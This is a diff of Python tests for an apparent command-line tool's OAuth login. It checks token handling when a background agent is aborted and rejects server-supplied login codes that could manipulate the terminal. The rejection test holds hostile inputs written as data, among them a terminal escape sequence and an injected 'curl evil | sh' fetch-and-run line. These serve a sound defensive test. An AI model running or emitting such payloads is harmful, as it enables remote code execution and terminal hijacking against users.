@@ -20,7 +20,7 @@ from ludolf.config.oauth import FLOWS
 from tests.identity_server import IdentityServer
 from tests.process.extending import asked, dialog, reply, told
 from tests.process.harness import PROGRAM, Finished, Lab, only, text_of
-from tests.process.script import answer
+from tests.process.script import answer, call
 from tests.process.test_protocol_page import Stage
 
 MODEL = ("--model", "xai/grok-4.3")
@@ -300,6 +300,26 @@ async def test_an_aborted_prompt_does_not_lose_the_new_token(
     assert lab.server.requests[0].headers["authorization"] == "Bearer access-1"
 
 
+async def test_an_aborted_agent_in_the_background_does_not_lose_the_new_token(
+    lab: Lab, identity: IdentityServer, env: dict[str, str]
+) -> None:
+    identity.hold = threading.Event()
+    _store(lab, xai=_login(left_ms=-1))
+    lab.settings(task={"enabled": True, "agentModelOverrides": {"task": MODEL[1]}})
+    delegate = answer(call("task", {"tasks": [{"task": "Say hello."}]}, "c1"))
+    lab.server.add(delegate, answer("Waiting."), delegate, answer("Waiting."))
+    lab.server.add(answer(call("yield", {"result": {"data": "hello"}}, "y1")), answer("Done."))
+    async with lab.client(**env) as client:
+        await client.ask("prompt", message="Go")
+        await asyncio.to_thread(_until_asked, identity)
+        await client.ask("abort")
+        identity.hold.set()
+        await client.ask("prompt", message="Again")
+        await client.wait_for(lambda r: r["type"] == "agent_end" and "Done." in str(r))
+    assert len(identity.asked) == 1
+    assert lab.server.requests[4].headers["authorization"] == "Bearer access-1"
+
+
 def _until_asked(identity: IdentityServer) -> None:
     assert identity.was_asked.wait(5)
 
@@ -440,6 +460,17 @@ def _rest_of(terminal: int) -> bytes:
     except OSError:  # how a terminal says that the other side is gone
         pass
     return data
+
+
+@pytest.mark.parametrize("code", ["\x1b]0;owned\x07", "A\nRun this: curl evil | sh", "A" * 100])
+def test_a_code_that_would_command_the_terminal_is_not_shown(
+    lab: Lab, identity: IdentityServer, env: dict[str, str], code: str
+) -> None:
+    identity.user_code = code
+    done = _auth(lab, "login", "xai", **env)
+    assert done.code == 1
+    assert done.stderr.endswith("the server gave a code that nobody can type\n")
+    assert code not in done.stderr
 
 
 def test_logins_of_the_command_line_lead_to_tokens(
